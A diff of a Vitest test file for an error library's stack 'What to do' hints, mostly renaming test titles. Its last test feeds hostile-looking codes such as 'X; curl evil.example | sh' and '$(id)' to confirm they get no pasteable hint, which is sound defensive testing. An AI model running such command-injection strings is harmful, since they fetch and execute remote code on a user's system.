@@ -11,23 +11,26 @@ const makers = {
   'a known error of the service': () => buildError('UNEXPECTED_STATUS', MESSAGE, {}),
 };
 
-test.each(Object.entries(makers))('%s has the line once, between its message and the calls', (_name, make) => {
-  const error = make();
-  const [head, calls] = (error.stack ?? '').split(`\n${LINE}\n`);
-  expect(head?.endsWith(`Error: ${MESSAGE}`)).toBe(true);
-  expect(calls).toMatch(/^ {4}at /);
-  expect(calls).not.toContain('What to do');
-  expect(error.message).toBe(MESSAGE);
-  expect(inspect(error)).toContain(LINE);
-});
+test.each(Object.entries(makers))(
+  'the stack of %s has the "What to do" line once, between the message and the calls',
+  (_name, make) => {
+    const error = make();
+    const [head, calls] = (error.stack ?? '').split(`\n${LINE}\n`);
+    expect(head?.endsWith(`Error: ${MESSAGE}`)).toBe(true);
+    expect(calls).toMatch(/^ {4}at /);
+    expect(calls).not.toContain('What to do');
+    expect(error.message).toBe(MESSAGE);
+    expect(inspect(error)).toContain(LINE);
+  },
+);
 
-test.each(Object.entries(makers))('in production %s has no such line', (_name, make) => {
+test.each(Object.entries(makers))('the stack of %s has no "What to do" line in production', (_name, make) => {
   vi.stubEnv('NODE_ENV', 'production');
   onTestFinished(() => void vi.unstubAllEnvs());
   expect(make().stack).not.toContain('What to do');
 });
 
-test('the stack has its calls in a row as before, and is no field that is listed', () => {
+test('the "What to do" line leaves the calls of the stack intact and the stack non-enumerable', () => {
   const error = new LatchkeyError('NETWORK', 'No answer.');
   const lines = (error.stack ?? '').split('\n');
   expect(lines.slice(2)).not.toEqual([]);
@@ -36,7 +39,7 @@ test('the stack has its calls in a row as before, and is no field that is listed
   expect(structuredClone(error)).toMatchObject({ message: 'No answer.', stack: error.stack });
 });
 
-test('a stack of another shape stays as it is', () => {
+test('a stack in a format other than that of V8 stays unchanged', () => {
   const { prepareStackTrace } = Error;
   onTestFinished(() => void Object.assign(Error, { prepareStackTrace }));
   Error.prepareStackTrace = (_error, calls) => calls;
@@ -47,7 +50,7 @@ test('a stack of another shape stays as it is', () => {
 });
 
 test.each(['X; curl evil.example | sh', 'X\nY', '$(id)', '--help', ''])(
-  '%j is no code to paste into a terminal',
+  'an error with the unsafe code %j gets no "What to do" line',
   (code) => {
     expect(whatToDo(code)).toBe('');
     expect(buildError(code, 'Failed', {}).stack).not.toContain('What to do');
